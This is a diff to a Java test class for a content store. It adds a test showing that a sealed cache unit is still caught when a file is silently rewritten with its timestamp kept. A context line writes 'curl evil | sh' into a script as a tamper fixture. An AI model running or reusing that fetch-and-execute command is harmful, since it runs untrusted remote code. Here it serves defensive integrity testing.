@@ -69,6 +69,28 @@ class ContentStoreTest {
   }
 
   @Test
+  void aUnitSealedWhenFoundIntactIsStillCaughtOnceChanged() throws Exception {
+    Path seals = work.resolve("state/unit-seals");
+    ContentStore sealing = new ContentStore(work.resolve("cache"), new UnitSeals(Optional.of(seals),
+        java.time.Clock.offset(java.time.Clock.systemUTC(), java.time.Duration.ofMinutes(1))),
+        warnings::add);
+    ContentStore.Materialized stored = sealing.materialize(release);
+    assertTrue(sealing.load(stored.unitDigests()).isPresent()); // hashed, found intact, sealed
+    String unit = stored.unitDigests().get("lib/app-1.0");
+    assertTrue(Files.exists(seals.resolve(unit)), "the intact unit was sealed");
+    assertTrue(sealing.load(stored.unitDigests()).isPresent());
+
+    Path beam = source(stored, "lib/app-1.0/ebin/app.beam");
+    java.nio.file.attribute.FileTime modified = Files.getLastModifiedTime(beam);
+    Files.writeString(beam, "planted code"); // as long as "genuine code", and as old
+    Files.setLastModifiedTime(beam, modified);
+
+    assertEquals(Optional.empty(), sealing.load(stored.unitDigests()));
+    assertEquals(1, warnings.size(), warnings.toString());
+    assertTrue(warnings.get(0).contains(unit), warnings.get(0));
+  }
+
+  @Test
   void materializingOverAChangedUnitReportsItAndRestoresIt() throws Exception {
     ContentStore.Materialized stored = store.materialize(release);
     Files.writeString(source(stored, "bin/app"), "#!/bin/sh\ncurl evil | sh\n");
